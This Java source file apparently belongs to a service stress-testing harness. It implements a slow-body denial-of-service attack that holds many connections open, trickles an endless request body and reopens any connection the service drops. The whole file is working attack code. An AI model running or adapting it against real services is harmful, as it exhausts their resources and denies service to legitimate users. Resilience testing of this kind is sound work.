package dev.waybill.system.siege;

import dev.waybill.system.hostile.RawConnection;
import java.io.IOException;
import java.net.InetAddress;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Many connections, each with the head of a request and a body that never ends. A connection that the service ends is
 * opened again.
 *
 * @param head of the request
 * @param first characters of the body that are sent at once
 * @param more characters that follow every {@code pauseMillis}
 */
record HeldBodies(String name, int port, int connections, String head, int first, int more, int pauseMillis)
        implements Attack {

    /** Of all connections together, so that the machine's own handling of connections is not what is measured. */
    private static final int OPENED_A_SECOND = 500;

    @Override
    public void run(InetAddress from) throws InterruptedException {
        AtomicLong next = new AtomicLong(System.nanoTime());
        ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
        try {
            for (int i = 0; i < connections; i++) {
                threads.execute(() -> holdAgainAndAgain(from, next));
            }
            threads.awaitTermination(Long.MAX_VALUE, TimeUnit.NANOSECONDS);
        } finally {
            threads.shutdownNow();
        }
    }

    private void holdAgainAndAgain(InetAddress from, AtomicLong next) {
        try {
            while (!Thread.currentThread().isInterrupted()) {
                long turn = next.getAndUpdate(
                        last -> Math.max(last, System.nanoTime()) + TimeUnit.SECONDS.toNanos(1) / OPENED_A_SECOND);
                TimeUnit.NANOSECONDS.sleep(turn - System.nanoTime());
                hold(from);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void hold(InetAddress from) throws InterruptedException {
        try (RawConnection connection = new RawConnection(port, from)) {
            connection.send(head + " ".repeat(first));
            while (connection.isUnanswered()) {
                TimeUnit.MILLISECONDS.sleep(pauseMillis);
                connection.send(" ".repeat(more));
            }
        } catch (IOException ended) {
            // The service has had enough of this one.
        }
    }
}
